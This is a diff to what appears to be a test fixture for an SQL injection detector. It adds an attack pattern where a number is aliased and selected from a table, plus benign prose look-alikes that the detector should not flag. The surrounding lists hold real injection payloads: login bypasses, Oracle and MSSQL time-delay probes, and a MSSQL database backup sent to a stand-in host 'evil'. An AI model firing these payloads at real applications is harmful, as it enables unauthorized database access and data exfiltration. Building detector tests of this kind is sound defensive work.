@@ -38,6 +38,7 @@ const SQLI_PL1: Record<string, string[]> = {
   'SQLite/PostgreSQL postfix null tests after a break, and a dangling condition the closing quote completes': ["' notnull --", "x' isnull--", "' * from = 1 or '9", "admin' = 1 or 'a", "' or '' '"],
   "login bypasses doing arithmetic on the application's two quoted halves": ["'-'", '"-"', "'*'", "'&'", "'^'"],
   'insert values continued after a break or a number, conditional sorts on a constant, Oracle packages compared': ["x', 'admin')--", "x'),('admin','pw')--", "test'), (1, 'a', 'b')#", '1,1,1)--', '(CASE WHEN (1=1) THEN id ELSE name END)', 'case when 1=1 then 1 else 2 end', '1 and 1=ctxsys.drithsx.sn(1,1)', '1 AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH(1)', '1;SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) FROM DUAL--'],
+  'a number aliased and selected from a table, in capitals': ['1234 AS "foobar" FROM tablevar2=whatever', '5 AS total FROM orders'],
   'negated comparisons, probes that are one call, MSSQL concatenation and backups, a whole-value waitfor': ['1 AND NOT 1=2', 'and not 1=1', '1 AND ISNULL(NULL)', "ad'+'min", "1; BACKUP DATABASE master TO DISK='\\\\evil\\x.bak'--", "WAITFOR DELAY '0:0:5'"],
 };
 
@@ -80,7 +81,7 @@ const BENIGN: string[] = [
   'Order by date', 'Group by size', 'ORDER BY', 'from Paris with love', 'Two boxes (fragile) as agreed from Monday on', 'in progress', 'is not available', 'like new',
   'in case when it rains then we stay home', 'Case closed', 'Where is my order?', 'having fun', 'values matter', "I'd like 'em both", 'std::string and Vec::new',
   'version 1.2.3', 'Execute the plan', 'exec chair', 'execute order', 'I declare @bob the winner', 'declare @bob the winner', '=IF(A1=1,1,0)', 'if (1 < 2) then', ', and then (some)',
-  ', date(2020)', 'Fixed it; update users', "'-' is a dash", "a '*' marks required fields", "use '&' to join", 'a-b', "'-1", "it's or 'not", "it's '+' sign", "a'+'b c", 'backup database to the cloud', "O'Brien, 'Jr')#", '1,2,3)', 'see (1, 2)--', 'Sizes 1,2,3)--', "Any arguments after `'--'` will not be parsed", "Notice that a line starting with `'#'`(hash) is treated as a comment.", "it's 5 > 3 or 'maybe", "O'Brien = boss or 'not", "Don't know or 'care", 'notnull', 'isnull', 'in (select one)', 'available in (select sizes)', 'the union of two sets', 'json', 'sin city', 'log in', 'Conor O\'Brien', 'x >= 3', 'a != b',
+  ', date(2020)', 'Fixed it; update users', "'-' is a dash", "a '*' marks required fields", "use '&' to join", 'a-b', "'-1", "it's or 'not", "it's '+' sign", "a'+'b c", 'backup database to the cloud', '2 as "gifts" from Mom', '2 AS "gifts" from Mom', 'known as "Bob" from Texas', "O'Brien, 'Jr')#", '1,2,3)', 'see (1, 2)--', 'Sizes 1,2,3)--', "Any arguments after `'--'` will not be parsed", "Notice that a line starting with `'#'`(hash) is treated as a comment.", "it's 5 > 3 or 'maybe", "O'Brien = boss or 'not", "Don't know or 'care", 'notnull', 'isnull', 'in (select one)', 'available in (select sizes)', 'the union of two sets', 'json', 'sin city', 'log in', 'Conor O\'Brien', 'x >= 3', 'a != b',
   // JavaScript and HTML words in prose and data
   'window.location is undefined in my app', 'Use `Function.prototype.call` to invoke it', 'See section 2.1 (document) for details', 'self-service portal',
   'top 10 results', 'C++ operators: a+b, a+=b', '¼ cup sugar, ¾ cup flour', 'price 1¼ – 1¾ €',
